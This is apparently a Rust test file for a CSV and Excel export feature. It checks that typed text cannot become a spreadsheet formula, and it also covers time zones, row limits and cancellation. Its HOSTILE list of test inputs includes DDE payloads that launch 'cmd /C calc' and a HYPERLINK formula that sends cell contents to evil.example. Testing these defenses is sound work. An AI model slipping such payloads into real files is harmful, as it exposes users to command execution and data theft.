use std::{
    io::BufReader,
    sync::{
        Arc,
        atomic::{AtomicBool, Ordering},
    },
};

use calamine::{Data, Reader as _, Xlsx, open_workbook_from_rs};
use chrono::TimeZone as _;
use sha2::{Digest as _, Sha256};

use super::*;
use crate::domain::lang::Lang;

/// What spreadsheets have been made to run, and what only looks like it.
const HOSTILE: [&str; 27] = [
    "x;=1+1;y",
    "x,=1+1,y",
    "x;\"=1+1\";'y",
    "=1+1",
    "+33 1 02 03 04 05",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠A1",
    "Bonjour\n=HYPERLINK(\"https://evil.example\")",
    "Bonjour\r\n+1\r\n@x",
    "=cmd|'/C calc'!A0",
    "=HYPERLINK(\"https://evil.example?x=\"&A1,\"cliquez\")",
    " =1+1",
    "\u{feff}=1+1",
    "\u{200b}=1+1",
    "\"=1+1",
    "'=1+1",
    "''\n'=1",
    "https://evil.example",
    "a;b,c\td\"e",
    "_x0041_ et \u{1}",
];

/// Somebody waits to the end.
static GOES_ON: AtomicBool = AtomicBool::new(false);

const AT: &str = "2026-03-29T00:59:59Z";

fn at() -> DateTime<Utc> {
    AT.parse().unwrap()
}

fn table(lang: Lang, rows: Vec<Row>) -> Table {
    let columns = [
        ("export-subject", Kind::Text),
        ("export-attempts", Kind::Integer),
        ("export-time", Kind::Minutes),
        ("export-filed", Kind::Instant),
        ("export-first-day", Kind::Day),
    ];
    let paris = chrono_tz::Europe::Paris;
    Table::new("test", "export-list-queue", lang.words(), paris, at())
        .columns(&columns)
        .asked("export-asked-text", "=1+1")
        .with(rows)
}

fn hostile(lang: Lang) -> Table {
    let day = NaiveDate::from_ymd_opt(2026, 2, 28).unwrap();
    let row = |text: &&str| -> Row {
        vec![
            (*text).into(),
            Cell::Integer(-7),
            Cell::Minutes(90),
            at().into(),
            day.into(),
        ]
    };
    table(lang, HOSTILE.iter().map(row).collect())
}

fn csv_of(table: Table) -> Vec<u8> {
    let (mut parts, mut all) = (CsvParts::of(table), Vec::new());
    while let Some(part) = parts.part().unwrap() {
        all.extend(part);
    }
    all
}

fn opened(table: Table) -> Xlsx<BufReader<std::fs::File>> {
    let book = write_xlsx(table, MOST_ROWS, &GOES_ON).unwrap();
    open_workbook_from_rs(BufReader::new(book.file)).unwrap()
}

#[test]
fn in_csv_no_line_of_what_people_typed_is_a_formula_and_all_of_it_comes_back() {
    for (lang, separator) in [(Lang::Fr, b';'), (Lang::En, b',')] {
        let bytes = csv_of(hostile(lang));
        assert!(bytes.starts_with("\u{feff}\"".as_bytes()));
        let mut reader = ::csv::ReaderBuilder::new()
            .delimiter(separator)
            .from_reader(&bytes[3..]);
        let names: Vec<_> = reader
            .headers()
            .unwrap()
            .iter()
            .map(str::to_owned)
            .collect();
        assert!(names[2].ends_with(" (min)"), "{names:?}");
        assert!(names[3].ends_with(" (Europe/Paris)"), "{names:?}");
        let records: Vec<_> = reader.records().map(Result::unwrap).collect();
        assert_eq!(records.len(), HOSTILE.len());
        for (record, typed) in records.iter().zip(HOSTILE) {
            for line in record[0].split(['\n', '\r']) {
                let begin = line.trim_start_matches(['\u{feff}', '\u{200b}', ' ', '"']);
                assert!(
                    !begin.starts_with(['=', '+', '-', '@', '\t', '＝', '＋', '－', '＠']),
                    "{typed:?}"
                );
            }
            assert_eq!(unguarded(&record[0]), typed);
            assert_eq!(&record[1], "-7");
            assert_eq!(&record[2], "90");
            assert_eq!(&record[3], "2026-03-29T01:59:59+01:00");
            assert_eq!(&record[4], "2026-02-28");
        }
    }
}

#[test]
fn in_csv_no_cell_is_a_formula_to_a_program_that_splits_at_the_other_separator() {
    for (lang, other) in [(Lang::Fr, b','), (Lang::En, b';')] {
        let bytes = csv_of(hostile(lang));
        let mut reader = ::csv::ReaderBuilder::new()
            .delimiter(other)
            .flexible(true)
            .from_reader(bytes.as_slice());
        for record in reader.records().map(Result::unwrap) {
            for cell in record.iter().skip(1) {
                let begin = cell.trim_start_matches('"');
                let is_number = begin.trim_end_matches('"').parse::<f64>().is_ok();
                let is_formula = begin.starts_with(['=', '+', '-', '@']);
                assert!(is_number || !is_formula, "{lang:?}: {record:?}");
            }
        }
    }
}

#[test]
fn in_a_workbook_what_people_typed_is_text_and_nothing_is_a_formula() {
    for lang in Lang::ALL {
        let mut book = opened(hostile(lang));
        let sheets = book.sheet_names();
        assert_eq!(sheets.len(), 2, "{sheets:?}");
        assert_eq!(sheets[1], lang.words().say("export-about"));
        for sheet in &sheets {
            let formulas = book.worksheet_formula(sheet).unwrap();
            assert_eq!(formulas.cells().count(), 0, "{sheet}");
        }
        let range = book.worksheet_range(&sheets[0]).unwrap();
        let rows: Vec<&[Data]> = range.rows().skip(1).collect();
        assert_eq!(rows.len(), HOSTILE.len());
        for (row, typed) in rows.into_iter().zip(HOSTILE) {
            assert_eq!(row[0], Data::String(typed.to_owned()));
            assert_eq!(row[1], Data::Float(-7.0));
            assert_eq!(row[2], Data::Float(90.0));
            let Data::DateTime(instant) = row[3] else {
                panic!("{:?} is no date", row[3]);
            };
            // The wall of Paris, a second before the hour that does not exist there.
            let seconds = (instant.as_f64() * 86_400.0).round();
            let begin = Utc.with_ymd_and_hms(1899, 12, 30, 0, 0, 0).unwrap();
            let expected = "2026-03-29T01:59:59Z".parse::<DateTime<Utc>>().unwrap() - begin;
            assert_eq!(
                seconds,
                f64::from(u32::try_from(expected.num_seconds()).unwrap())
            );
            assert!(matches!(row[4], Data::DateTime(_)), "{:?}", row[4]);
        }
    }
}

#[test]
fn a_workbook_says_what_it_holds_and_its_hash_is_that_of_the_same_list_as_csv() {
    for lang in Lang::ALL {
        let mut book = opened(hostile(lang));
        let about = book.worksheet_range_at(1).unwrap().unwrap();
        let said: Vec<(String, String)> = about
            .rows()
            .map(|row| (row[0].to_string(), row[1].to_string()))
            .collect();
        let value = |key: &str| {
            let name = lang.words().say(key);
            let found = said.iter().find(|(one, _)| *one == name);
            found.unwrap_or_else(|| panic!("{key}: {said:?}")).1.clone()
        };
        let hash: String = Sha256::digest(csv_of(hostile(lang)))
            .iter()
            .map(|byte| format!("{byte:02x}"))
            .collect();
        assert_eq!(value("export-about-hash"), hash);
        assert_eq!(value("export-about-rows"), HOSTILE.len().to_string());
        assert_eq!(value("export-about-zone"), "Europe/Paris");
        assert_eq!(value("export-asked-text"), "=1+1");
        let made = dates::long_date_time(at(), chrono_tz::Europe::Paris, lang);
        assert_eq!(value("export-about-made"), made);
    }
}

#[test]
fn a_list_that_is_too_long_for_a_workbook_is_refused_as_soon_as_that_is_known() {
    let mut left = 1_000;
    let endless = table(Lang::Fr, Vec::new()).fed(move || {
        assert!(left > 0, "reading goes on");
        left -= 1;
        Ok(vec![vec!["x".into()]; 10])
    });
    assert!(matches!(
        write_xlsx(endless, 25, &GOES_ON),
        Err(XlsxError::TooManyRows)
    ));
    let full = table(Lang::Fr, vec![vec!["x".into()]; 25]);
    assert_eq!(write_xlsx(full, 25, &GOES_ON).unwrap().rows, 25);
}

#[test]
fn a_workbook_that_nobody_waits_for_is_not_read_on() {
    let stopped = Arc::new(AtomicBool::new(false));
    let (stops, mut reads) = (Arc::clone(&stopped), 0);
    let endless = table(Lang::Fr, Vec::new()).fed(move || {
        reads += 1;
        stops.store(reads == 3, Ordering::Relaxed);
        assert!(reads < 4, "reading goes on");
        Ok(vec![vec!["x".into()]])
    });
    let written = write_xlsx(endless, MOST_ROWS, &stopped);
    assert!(matches!(written, Err(XlsxError::Stopped)));
}

#[test]
fn a_text_without_end_is_cut_and_says_so() {
    let long = "é🙂".repeat(20_000);
    let mut book = opened(table(Lang::Fr, vec![vec![long.as_str().into()]]));
    let range = book.worksheet_range_at(0).unwrap().unwrap();
    let Some(Data::String(kept)) = range.get_value((1, 0)) else {
        panic!("no text");
    };
    assert!(kept.ends_with('…') && long.starts_with(kept.trim_end_matches('…')));
    assert!((32_000..=32_767).contains(&kept.encode_utf16().count()));
}

#[test]
fn an_empty_list_has_its_head_and_a_file_a_name_that_is_safe() {
    let text = String::from_utf8(csv_of(table(Lang::Fr, Vec::new()))).unwrap();
    assert_eq!(text.lines().count(), 1, "{text}");
    let name = table(Lang::En, Vec::new()).file_name(FileForm::Xlsx);
    assert_eq!(name, "test-2026-03-29.xlsx");
}

proptest::proptest! {
    #[test]
    fn whatever_is_typed_comes_back_and_begins_no_formula(
        text in "[=+@'\"\n\r\t a\\-＝＠\u{200b}\u{feff}]{0,12}",
    ) {
        let guarded = guarded(&text);
        proptest::prop_assert_eq!(unguarded(&guarded), text.clone());
        for line in guarded.split(['\n', '\r']) {
            proptest::prop_assert!(!line.starts_with(['=', '+', '-', '@', '\t', '＝', '＠']));
        }
    }
}
